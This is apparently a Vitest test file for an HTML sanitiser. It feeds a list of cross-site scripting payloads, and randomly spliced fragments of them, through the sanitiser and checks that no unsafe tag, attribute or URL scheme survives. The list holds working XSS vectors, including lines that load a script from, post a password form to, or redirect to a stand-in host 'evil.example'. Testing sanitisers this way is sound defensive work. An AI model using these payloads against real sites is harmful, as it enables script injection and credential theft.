import { Parser } from 'htmlparser2'
import { expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'

/** Ways in which pages were made to run what somebody else wrote, each in a form of its own. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/rooms/a/b.jpg" onload="alert(1)">',
  '<img src="/rooms/a/b.jpg"onerror=alert(1)//">',
  '<img src="/api/logout">',
  '<img src="/rooms/../api/logout">',
  '<img srcset="https://evil.example/x 1x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/" style="position:fixed">x</a>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example/"><input name=password><button>Go</button></form>',
  '<base href="https://evil.example/"><link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<style>@import "//evil.example/x.css"</style>',
  '<p style="background:url(javascript:alert(1))" class="fixed inset-0">x</p>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title></title><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<p id="__proto__" data-behaviour="logout" contenteditable onfocus=alert(1) autofocus>x</p>',
  '<figure data-kind="comparison" onclick=alert(1)><img src="/api/blog/comparisons/a/before/w960.webp"></figure>',
  '<figure data-kind="other"><video src=x onerror=alert(1)></video></figure>',
  '<table background="javascript:alert(1)"><td background="x">a',
  '<template><script>alert(1)</script></template><slot onslotchange=alert(1)></slot>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<a href="https://a.example" target="_blank" rel="opener" ping="https://evil.example/">x</a>',
]

const TAGS = new Set(
  'h2 h3 h4 p ul ol li blockquote pre hr figure figcaption strong em s sub sup code br a img table thead tbody tr th td'.split(
    ' ',
  ),
)
const ATTRIBUTES = new Set(
  'href title rel data-kind src alt width height loading start colspan rowspan scope'.split(' '),
)
/** `https:` and the like, before which nothing stands that an address could begin with. */
const SCHEME = /^([a-z][a-z\d+.-]*):/i
const SAFE_SCHEMES = new Set(['https', 'mailto', 'tel'])

/** What a browser could act on: nothing but what articles are made of, and addresses that run nothing. */
function faultsOf(html: string): string[] {
  const faults: string[] = []
  new Parser({
    onopentag(name, attributes) {
      if (!TAGS.has(name)) faults.push(`<${name}>`)
      for (const [attribute, written] of Object.entries(attributes)) {
        // Browsers pass over these in addresses.
        const value = written.replaceAll(/[\p{Cc} ]/gu, '')
        if (!ATTRIBUTES.has(attribute)) faults.push(`${name} ${attribute}`)
        const scheme = SCHEME.exec(value)?.[1].toLowerCase() ?? 'https'
        const isSafe = SAFE_SCHEMES.has(scheme) && !/^[/\\]{2}/.test(value)
        if (attribute === 'href' && !isSafe) faults.push(`href ${value}`)
        if (attribute === 'src' && !/^\/(rooms|api\/blog)\/[\w/.-]+$/.test(value)) faults.push(`src ${value}`)
        if (attribute === 'src' && value.includes('..')) faults.push(`src ${value}`)
      }
    },
    oncomment: () => void faults.push('a comment'),
    onprocessinginstruction: () => void faults.push('an instruction'),
  }).end(html)
  return faults
}

test('what looks for faults finds them', () => {
  expect(HOSTILE.filter((html) => faultsOf(html).length === 0)).toEqual([])
})

test.each(HOSTILE)('nothing runs of %s', (html) => {
  const clean = cleanHtml(html)
  expect(faultsOf(clean)).toEqual([])
  // What was cleaned once stays as it is.
  expect(cleanHtml(clean)).toBe(clean)
})

/** Numbers as mulberry32 gives them, so that a failure can be had again. */
function random(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let bits = Math.imul(state ^ (state >>> 15), 1 | state)
    bits = (bits + Math.imul(bits ^ (bits >>> 7), 61 | bits)) ^ bits
    return ((bits ^ (bits >>> 14)) >>> 0) / 4_294_967_296
  }
}

test('nothing runs of them cut to pieces and put together anew', () => {
  for (let seed = 1; seed <= 3000; seed += 1) {
    const next = random(seed)
    const pick = () => HOSTILE[Math.floor(next() * HOSTILE.length)]
    const pieces = Array.from({ length: 2 + Math.floor(next() * 5) }, () => {
      const from = pick()
      const start = Math.floor(next() * from.length)
      return from.slice(start, start + 1 + Math.floor(next() * (from.length - start)))
    })
    const html = pieces.join(['', ' ', '"', '<p>', '\n', '>'][Math.floor(next() * 6)])
    const clean = cleanHtml(html)
    expect(faultsOf(clean), `seed ${seed}: ${html}`).toEqual([])
    expect(faultsOf(cleanHtml(clean)), `seed ${seed}, cleaned twice: ${html}`).toEqual([])
  }
})
